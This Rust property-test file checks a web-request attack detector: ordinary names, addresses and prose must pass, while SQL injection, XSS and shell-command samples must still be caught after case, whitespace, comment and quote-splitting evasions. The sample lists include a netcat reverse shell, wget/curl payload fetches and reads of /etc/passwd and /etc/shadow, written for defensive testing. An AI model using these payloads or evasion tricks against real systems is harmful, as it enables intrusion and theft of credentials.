//! What holds for any text: everyday values pass, writing an attack otherwise does not hide it, and no depth
//! overflows a stack.

use std::sync::LazyLock;

use portcullis_semantic::{Analysis, Class, Detectors, Level, Location, Place, detectors};
use proptest::prelude::*;

static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);

/// What `level` blocks `text` for, with what was found; nothing if it passes.
fn blocked(place: Place, name: &str, text: &str, level: Level) -> Option<(Class, Vec<&'static str>)> {
    let mut analysis = Analysis::new();
    analysis.value(&DETECTORS, Location::new(place, name.as_bytes()), text.as_bytes());
    let worst = analysis.worst(&DETECTORS, level).filter(|worst| worst.blocks(level))?;
    Some((worst.class, analysis.findings().iter().map(|finding| finding.kind.id).collect()))
}

fn pick(list: &'static [&'static str]) -> impl Strategy<Value = String> {
    prop::sample::select(list).prop_map(str::to_owned)
}

fn person() -> impl Strategy<Value = String> {
    let given = pick(&[
        "Anne-Marie",
        "José",
        "Lars",
        "Siobhán",
        "Ng",
        "Dr. Eve",
        "Jean-Luc",
        "Mary Ann",
        "Zoë",
        "Or",
    ]);
    let family = pick(&[
        "O'Brien",
        "D'Angelo",
        "van der Berg",
        "Smith & Sons",
        "Müller-Lüdenscheidt",
        "Null",
        "Union",
        "McDonald",
    ]);
    (given, family).prop_map(|(given, family)| format!("{given} {family}"))
}

fn address() -> impl Strategy<Value = String> {
    let street =
        (1..400u32, pick(&["High St.", "Rue de l'Église", "Am Markt", "5th Ave, Apt #3"]), "[0-9]{5}");
    let mail = ("[a-z]{3,9}", "[a-z]{2,6}", pick(&["example.com", "mail.example.org", "firma.example"]));
    prop_oneof![
        street.prop_map(|(number, street, code)| format!("{number} {street}, {code}")),
        mail.prop_map(|(a, b, host)| format!("{a}.{b}+news@{host}")),
        "\\+[1-9][0-9]{1,2} \\([0-9]{3}\\) [0-9]{3}-[0-9]{4}",
    ]
}

fn amount() -> impl Strategy<Value = String> {
    prop_oneof![
        (1..9_999u32, 0..100u32).prop_map(|(whole, part)| format!("${whole}.{part:02}")),
        (1..99u32, 1..999u32).prop_map(|(whole, part)| format!("{whole}.{part:03},- €")),
        (1..100u32).prop_map(|part| format!("{part}% off")),
        (-90.0..90.0f64, -180.0..180.0f64).prop_map(|(a, b)| format!("{a:.6},{b:.6}")),
    ]
}

fn time() -> impl Strategy<Value = String> {
    (2000..2040u32, 1..13u32, 1..29u32, 0..24u32, 0..60u32).prop_flat_map(
        |(year, month, day, hour, minute)| {
            prop::sample::select(vec![
                format!("{year}-{month:02}-{day:02}"),
                format!("{day}/{month}/{year} {hour:02}:{minute:02}"),
                format!("{year}-{month:02}-{day:02}T{hour:02}:{minute:02}:00.000Z"),
                format!("{year}-{month:02}-{day:02} {hour:02}:{minute:02}:00 +0200"),
            ])
        },
    )
}

fn code() -> impl Strategy<Value = String> {
    prop_oneof![
        "[A-Z]{2,4}-[0-9]{2,6}(/[A-Z0-9]{1,3})?",
        "#[0-9A-F]{6}",
        "[0-9]{3}-[0-9]{10}",
        "[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}",
        "v[0-9]\\.[0-9]{1,2}\\.[0-9](-rc[1-9])?",
        "M[0-9]x[0-9]{2} \\(DIN [0-9]{3}\\)",
    ]
}

fn word() -> impl Strategy<Value = String> {
    pick(&[
        "the", "order", "by", "union", "select", "from", "where", "and", "or", "not", "table", "drop",
        "update", "a", "group", "it's", "don't", "cat", "echo", "script", "alert", "image", "file", "path",
        "system", "value", "like", "between", "is", "null", "insert", "into", "set", "top", "limit", "case",
        "when", "then", "key", "admin", "user", "password", "sleep", "of", "we", "have", "with", "house",
        "green", "quickly", "e.g.", "i.e.", "C++", "R&D", "AT&T", "and/or", "24/7",
    ])
}

fn prose() -> impl Strategy<Value = String> {
    let sentence =
        (prop::collection::vec(word(), 3..12), pick(&[".", "!", "?", "...", ";", " -", ":", " (really)."]));
    let sentence = sentence.prop_map(|(words, end)| {
        let text = words.join(" ");
        format!("{}{}{end}", text[..1].to_uppercase(), &text[1..])
    });
    prop::collection::vec(sentence, 1..6).prop_map(|sentences| sentences.join(" "))
}

fn url() -> impl Strategy<Value = String> {
    let path = prop::collection::vec("[a-z]{2,8}(-[a-z]{2,6})?", 0..4).prop_map(|parts| parts.join("/"));
    let query = prop::collection::vec(("[a-z]{1,6}", "[A-Za-z0-9_-]{1,10}"), 0..4);
    let host = pick(&["www.example.com", "shop.example.org:8443", "cdn.example.net"]);
    (host, path, query, pick(&["", "#top", "#/a/b"])).prop_map(|(host, path, query, fragment)| {
        let query: Vec<String> = query.into_iter().map(|(name, value)| format!("{name}={value}")).collect();
        let mark = if query.is_empty() { "" } else { "?" };
        format!("https://{host}/{path}{mark}{}{fragment}", query.join("&"))
    })
}

fn settings() -> impl Strategy<Value = String> {
    let scalar =
        prop_oneof![Just("true".to_owned()), Just("null".to_owned()), "[0-9]{1,4}", "\"[a-z ]{0,12}\""];
    prop::collection::vec(("[a-z]{2,8}(_[a-z]{2,6})?", scalar), 0..8).prop_map(|fields| {
        let fields: Vec<String> =
            fields.into_iter().map(|(name, value)| format!("\"{name}\":{value}")).collect();
        format!("{{\"v\":1,\"panel\":{{{}}}}}", fields.join(","))
    })
}

/// So many cases, or more where `PROPTEST_CASES` says so.
fn cases(least: u32) -> u32 {
    ProptestConfig::default().cases.max(least)
}

fn everyday() -> impl Strategy<Value = String> {
    prop_oneof![person(), address(), amount(), time(), code(), prose(), url(), settings()]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(cases(2_000)))]

    #[test]
    fn everyday_values_pass(
        text in everyday(),
        place in prop::sample::select(&[Place::Query, Place::Form, Place::Json, Place::MultipartField, Place::XmlText][..]),
        name in prop::sample::select(&["q", "text", "name", "note", "value"][..]),
    ) {
        prop_assert_eq!(blocked(place, name, &text, Level::Balanced), None);
    }

    /// The same where two of them stand side by side, in other bytes, and as a header.
    #[test]
    fn everyday_values_pass_together(one in everyday(), two in everyday(), joint in pick(&[" ", ", ", "\n", " - ", "; ", "\t"])) {
        let text = format!("{one}{joint}{two}");
        prop_assert_eq!(blocked(Place::Form, "text", &text, Level::Balanced), None);
        let encoded: String = text.bytes().map(|b| format!("%{b:02X}")).collect();
        prop_assert_eq!(blocked(Place::Form, "text", &encoded, Level::Balanced), None);
    }
}

/// How the next choices are made: a small generator, so that a mutation is a function of its seed.
struct Choices(u64);

impl Choices {
    fn next(&mut self, below: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) as usize % below
    }
}

fn any_case(text: &str, choices: &mut Choices) -> String {
    text.chars()
        .map(|c| if choices.next(2) == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect()
}

/// Each space becomes what the language takes for one.
fn spaced(text: &str, spaces: &[&str], choices: &mut Choices) -> String {
    text.chars()
        .map(|c| if c == ' ' { spaces[choices.next(spaces.len())].to_owned() } else { c.to_string() })
        .collect()
}

#[track_caller]
fn stays(class: Class, original: &str, text: &str) -> Result<(), TestCaseError> {
    let found = blocked(Place::Query, "q", text, Level::Balanced);
    prop_assert!(found.is_some(), "{class}: {original:?} as {text:?} passes");
    Ok(())
}

const SQLI: &[&str] = &[
    "1' UNION SELECT user , password FROM users -- -",
    "' OR '1' = '1",
    "1 AND SLEEP(5)",
    "1 ; DROP TABLE users -- -",
    "x' AND EXTRACTVALUE(1 , CONCAT(0x7e , VERSION())) -- -",
    "1) OR (1 = 1",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0",
];

const XSS: &[&str] = &[
    "<script >alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "\"><body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
];

const COMMANDS: &[&str] = &[
    "; cat /etc/passwd",
    "| wget http://a.example/x -O /tmp/x",
    "$(curl http://a.example/x)",
    "`cat /etc/shadow`",
    "&& nc -e /bin/sh 192.0.2.1 4444",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(cases(1_000)))]

    #[test]
    fn sql_written_otherwise_is_found(original in prop::sample::select(SQLI), seed in any::<u64>()) {
        let choices = &mut Choices(seed);
        let text = spaced(original, &[" ", "\t", "\n", "\r\n", "/**/", "/*x*/", "  ", "\u{b}"], choices);
        // A comment to the end of the line begins with two hyphens and white space.
        let text = match original.contains("-- -") {
            true => format!("{}-- -", &text[..text.rfind("--").unwrap_or(0)]),
            false => text,
        };
        stays(Class::Sqli, original, &any_case(&text, choices))?;
    }

    #[test]
    fn markup_written_otherwise_is_found(original in prop::sample::select(XSS), seed in any::<u64>()) {
        let choices = &mut Choices(seed);
        let text = spaced(original, &[" ", "\t", "\n", "\u{c}", "  ", "\r\n"], choices);
        // Markup and schemes take any case, names of functions do not.
        let parts: Vec<String> = text.split("alert(1)").map(|part| any_case(part, choices)).collect();
        stays(Class::Xss, original, &parts.join("alert(1)"))?;
    }

    #[test]
    fn commands_written_otherwise_are_found(original in prop::sample::select(COMMANDS), seed in any::<u64>()) {
        let choices = &mut Choices(seed);
        let text = spaced(original, &[" ", "\t", "  ", "${IFS}", "$IFS$9"], choices);
        // A shell drops quotes that have nothing between them.
        let name = ["cat", "wget", "curl", "nc"].iter().find(|name| text.contains(**name)).copied().unwrap_or("cat");
        let cut = choices.next(name.len() - 1) + 1;
        let quotes = ["", "''", "\"\"", "\\"][choices.next(4)];
        let text = text.replacen(name, &format!("{}{quotes}{}", &name[..cut], &name[cut..]), 1);
        stays(Class::Command, original, &text)?;
    }
}

/// Bytes of a text that nests.
const DEEP_BYTES: usize = 1 << 20;
/// Stack of the thread that reads it: a level of recursion for each byte would need a hundred times as much.
const STACK_BYTES: usize = 256 << 10;

/// Each detector reads what nests a million deep, after words that open its gate.
#[test]
fn depth_costs_no_stack() {
    let openers = ["(", "{", "<", "[", "${", "$(", "<a ", "{\"a\":", "((select ", "<!doctype a["];
    let hints: Vec<String> = detectors::all()
        .iter()
        .map(|detector| {
            detector.hints().iter().take(8).map(|hint| hint.as_str().to_owned()).collect::<Vec<_>>().join(" ")
        })
        .collect();
    for opener in openers {
        let read = |(number, hints): (usize, &String)| {
            let detector = detectors::all().swap_remove(number);
            let places = [Place::Query, Place::FileContent, Place::ResponseBody, Place::Path];
            let Some(place) = places.into_iter().find(|place| detector.reads(*place)) else { return };
            let detectors = Detectors::of(vec![detector]).expect("weights");
            let text = format!("{hints} {}", opener.repeat(DEEP_BYTES / opener.len()));
            Analysis::new().value(&detectors, Location::new(place, b"q"), text.as_bytes());
        };
        let work = || hints.iter().enumerate().for_each(read);
        std::thread::scope(|scope| {
            let thread = std::thread::Builder::new().stack_size(STACK_BYTES).spawn_scoped(scope, work);
            thread.expect("a thread").join().unwrap_or_else(|_| panic!("{opener}"));
        });
    }
}
